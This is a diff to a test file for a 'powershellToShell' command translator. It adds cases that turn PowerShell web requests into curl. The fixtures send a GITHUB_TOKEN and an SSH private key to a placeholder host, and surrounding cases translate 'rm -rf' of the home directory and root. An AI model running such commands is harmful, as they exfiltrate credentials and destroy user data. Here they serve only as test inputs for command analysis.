@@ -31,6 +31,13 @@ describe("powershellToShell", () => {
     expect(powershellToShell("Remove-Item -Recurse $env:HOME")).toBe('rm -rf "$HOME"');
   });
 
+  it("sends a web request's -Uri, -Body and -InFile as curl would", () => {
+    expect(powershellToShell("Invoke-RestMethod -Uri https://x.example -Method Post -Body $env:GITHUB_TOKEN")).toBe('curl -d "$GITHUB_TOKEN" https://x.example');
+    expect(powershellToShell("iwr https://x.example -Method Post -Body (Get-Content ~/.ssh/id_rsa -Raw)")).toBe('curl -d "$(cat ~/.ssh/id_rsa)" https://x.example');
+    expect(powershellToShell("iwr -Uri https://x.example/up -Method Put -InFile a.txt")).toBe("curl -T a.txt https://x.example/up");
+    expect(powershellToShell("Invoke-RestMethod -Uri https://api.github.com/repos/org/repo")).toBe("curl https://api.github.com/repos/org/repo");
+  });
+
   it("reads Windows paths as the places they are", () => {
     expect(powershellToShell("Remove-Item -Recurse -Force C:\\Users\\ada\\Documents")).toBe("rm -rf '/Users/ada/Documents'");
     expect(powershellToShell("Remove-Item -Recurse -Force D:\\")).toBe("rm -rf '/'");
